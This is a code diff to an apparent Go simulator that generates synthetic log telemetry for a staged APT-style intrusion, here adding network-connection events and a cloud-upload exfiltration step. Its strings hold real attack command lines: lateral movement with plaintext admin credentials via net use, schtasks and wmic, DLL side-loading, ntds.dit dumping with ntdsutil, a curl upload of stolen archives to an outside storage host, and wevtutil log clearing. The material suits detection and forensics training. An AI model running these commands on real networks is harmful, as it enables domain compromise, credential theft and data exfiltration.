@@ -116,6 +116,9 @@ func (w *world) intrusion() {
 	// it with a remote scheduled task running as SYSTEM.
 	c = w.webShell(at(13, 22, 50, 0), `net use \\10.10.20.15\c$ /user:corp\adm.wang Sup3r!Adm1n`)
 	erp.start(at(13, 22, 50, 1), c, `C:\Windows\System32\net.exe`, `net  use \\10.10.20.15\c$ /user:corp\adm.wang Sup3r!Adm1n`, isAttack())
+	// SMB from ERP01 to the file server (the kernel, System, holds the
+	// connection).
+	erp.netconn(at(13, 22, 50, 1).Add(400*time.Millisecond), erp.system, true, ipERP, 49871, ipFS, "FS01.corp.local", 445)
 	smb := fs.logonEvent(at(13, 22, 50, 2), acctAdmWang, 3, ipERP, "NTLM", attack)
 	for i, f := range []string{`1.bat`, `p.dat`, `d.dat`, `r.dat`} {
 		w.webShell(at(13, 22, 51, 10*i), `copy /y C:\Windows\Temp\`+f+` \\10.10.20.15\c$\Windows\Temp\`+f)
@@ -123,8 +126,9 @@ func (w *world) intrusion() {
 	}
 	_ = smb
 	c = w.webShell(at(13, 22, 58, 0), `SCHTASKS /Create /S 10.10.20.15 /U corp\adm.wang /p Sup3r!Adm1n /SC ONCE /TN test /TR C:\Windows\Temp\1.bat /ST 23:10 /RU SYSTEM`)
-	erp.start(at(13, 22, 58, 1), c, `C:\Windows\System32\schtasks.exe`,
+	st := erp.start(at(13, 22, 58, 1), c, `C:\Windows\System32\schtasks.exe`,
 		`SCHTASKS  /Create /S 10.10.20.15 /U corp\adm.wang /p Sup3r!Adm1n /SC ONCE /TN test /TR C:\Windows\Temp\1.bat /ST 23:10 /RU SYSTEM`, isAttack())
+	erp.netconn(at(13, 22, 58, 1).Add(300*time.Millisecond), st, true, ipERP, 49902, ipFS, "FS01.corp.local", 135)
 	taskLogon := fs.logonEvent(at(13, 22, 58, 2), acctAdmWang, 3, ipERP, "NTLM", attack)
 	fs.security(at(13, 22, 58, 3), 4698, "Other Object Access Events", obj{
 		{"SubjectUserSid", acctAdmWang.sid}, {"SubjectUserName", acctAdmWang.name}, {"SubjectDomainName", "CORP"},
@@ -171,8 +175,9 @@ func (w *world) intrusion() {
 	// Steps 18 and 9, Wednesday 16 February, 03:20: WMI to the domain
 	// controller; the IKEEXT service is made to side-load wlbsctrl.dll.
 	c = w.webShell(at(15, 3, 20, 0), `wmic /node:10.10.20.5 /user:corp\adm.wang /password:Sup3r!Adm1n process call create "cmd.exe /c copy \\10.10.20.11\c$\Windows\Temp\w.dat C:\Windows\System32\wlbsctrl.dll"`)
-	erp.start(at(15, 3, 20, 1), c, `C:\Windows\System32\wbem\WMIC.exe`,
+	wm := erp.start(at(15, 3, 20, 1), c, `C:\Windows\System32\wbem\WMIC.exe`,
 		`wmic  /node:10.10.20.5 /user:corp\adm.wang /password:Sup3r!Adm1n process call create "cmd.exe /c copy \\10.10.20.11\c$\Windows\Temp\w.dat C:\Windows\System32\wlbsctrl.dll"`, isAttack())
+	erp.netconn(at(15, 3, 20, 1).Add(300*time.Millisecond), wm, true, ipERP, 50113, ipDC, "DC01.corp.local", 135)
 	wmiLogon := dc.logonEvent(at(15, 3, 20, 2), acctAdmWang, 3, ipERP, "NTLM", attack)
 	c = dc.start(at(15, 3, 20, 3), dc.wmiprvse, `C:\Windows\System32\cmd.exe`, `cmd.exe /c copy \\10.10.20.11\c$\Windows\Temp\w.dat C:\Windows\System32\wlbsctrl.dll`,
 		asUser(acctAdmWang, wmiLogon, "High"), isAttack())
@@ -190,8 +195,9 @@ func (w *world) intrusion() {
 
 	// Step 7, 03:40: ntds.dit is copied with ntdsutil through WMI.
 	c = w.webShell(at(15, 3, 40, 0), `wmic /node:10.10.20.5 /user:corp\adm.wang /password:Sup3r!Adm1n process call create "cmd.exe /c ntdsutil \"ac i ntds\" ifm \"create full C:\PerfLogs\n\" q q"`)
-	erp.start(at(15, 3, 40, 1), c, `C:\Windows\System32\wbem\WMIC.exe`,
+	wm = erp.start(at(15, 3, 40, 1), c, `C:\Windows\System32\wbem\WMIC.exe`,
 		`wmic  /node:10.10.20.5 /user:corp\adm.wang /password:Sup3r!Adm1n process call create "cmd.exe /c ntdsutil \"ac i ntds\" ifm \"create full C:\PerfLogs\n\" q q"`, isAttack())
+	erp.netconn(at(15, 3, 40, 1).Add(300*time.Millisecond), wm, true, ipERP, 50187, ipDC, "DC01.corp.local", 135)
 	wmiLogon = dc.logonEvent(at(15, 3, 40, 2), acctAdmWang, 3, ipERP, "NTLM", attack)
 	c = dc.start(at(15, 3, 40, 3), dc.wmiprvse, `C:\Windows\System32\cmd.exe`, `cmd.exe /c ntdsutil "ac i ntds" ifm "create full C:\PerfLogs\n" q q`,
 		asUser(acctAdmWang, wmiLogon, "High"), isAttack())
@@ -199,6 +205,7 @@ func (w *world) intrusion() {
 	dc.fileCreate(at(15, 3, 41, 30), nt, `C:\PerfLogs\n\Active Directory\ntds.dit`, attack)
 	dc.fileCreate(at(15, 3, 41, 31), nt, `C:\PerfLogs\n\registry\SYSTEM`, attack)
 	c = w.webShell(at(15, 3, 50, 0), `copy \\10.10.20.5\c$\PerfLogs\n\Active Directory\ntds.dit C:\Windows\Temp\n.dat`)
+	erp.netconn(at(15, 3, 50, 0).Add(400*time.Millisecond), erp.system, true, ipERP, 50201, ipDC, "DC01.corp.local", 445)
 	dc.logonEvent(at(15, 3, 50, 1), acctAdmWang, 3, ipERP, "NTLM", attack)
 	erp.fileCreate(at(15, 3, 50, 40), c, `C:\Windows\Temp\n.dat`, attack)
 
@@ -218,17 +225,21 @@ func (w *world) intrusion() {
 	}
 	fs.start(at(28, 1, 45, 0), pn, `C:\Windows\System32\cmd.exe`, `cmd.exe /c del /q C:\ProgramData\b7.cab C:\ProgramData\list.*`, isAttack())
 
-	// Step 30, 02:10: the archive parts go to the web root and out through
-	// the web shell.
+	// Step 30, 02:10: the archive parts are pulled to ERP01 over SMB, then
+	// 02:17 uploaded with curl to a cloud storage account (HTTPS out, as
+	// APT41's DUST campaign sent its RAR archives to OneDrive).
 	for i := 1; i <= 3; i++ {
 		t := at(28, 2, 10, 0).Add(time.Duration(i-1) * 2 * time.Minute)
 		part := `d1.part` + strconv.Itoa(i) + `.rar`
-		c = w.webShell(t, `copy \\10.10.20.15\c$\$Recycle.Bin\`+part+` D:\ERP\jboss-4.2.3\server\default\deploy\erp.war\help\`+part)
+		c = w.webShell(t, `copy \\10.10.20.15\c$\$Recycle.Bin\`+part+` C:\Windows\Temp\`+part)
+		erp.netconn(t.Add(400*time.Millisecond), erp.system, true, ipERP, 50300+i, ipFS, "FS01.corp.local", 445)
 		fs.logonEvent(t.Add(time.Second), acctAdmWang, 3, ipERP, "NTLM", attack)
-		erp.fileCreate(t.Add(40*time.Second), c, `D:\ERP\jboss-4.2.3\server\default\deploy\erp.war\help\`+part, attack)
-		erp.netconn(t.Add(70*time.Second), java, false, ipAttacker, 40000+w.rng.IntN(20000), ipERP, "ERP01.corp.local", 8443, attack)
+		erp.fileCreate(t.Add(40*time.Second), c, `C:\Windows\Temp\`+part, attack)
 	}
-	w.webShell(at(28, 2, 20, 0), `del /q D:\ERP\jboss-4.2.3\server\default\deploy\erp.war\help\d1.part*.rar`)
+	c = w.webShell(at(28, 2, 17, 0), `curl.exe -s -k -T "C:\Windows\Temp\d1.part{1,2,3}.rar" https://bn1304.storage.live.com/users/0x5e0f1a2b/LiveFolders/q/`)
+	cu = erp.start(at(28, 2, 17, 1), c, `C:\Windows\System32\curl.exe`, `curl.exe  -s -k -T "C:\Windows\Temp\d1.part{1,2,3}.rar" https://bn1304.storage.live.com/users/0x5e0f1a2b/LiveFolders/q/`, isAttack())
+	erp.netconn(at(28, 2, 17, 2), cu, true, ipERP, 50344, ipCloud, "bn1304.storage.live.com", 443)
+	w.webShell(at(28, 2, 24, 0), `del /q C:\Windows\Temp\d1.part*.rar`)
 
 	// Step 24, Wednesday 2 March, 03:00: the file server's logs are cleared.
 	c = fs.start(at(29, 3, 0, 0), pn, `C:\Windows\System32\cmd.exe`, `cmd.exe /c wevtutil cl Security & wevtutil cl System`, isAttack())
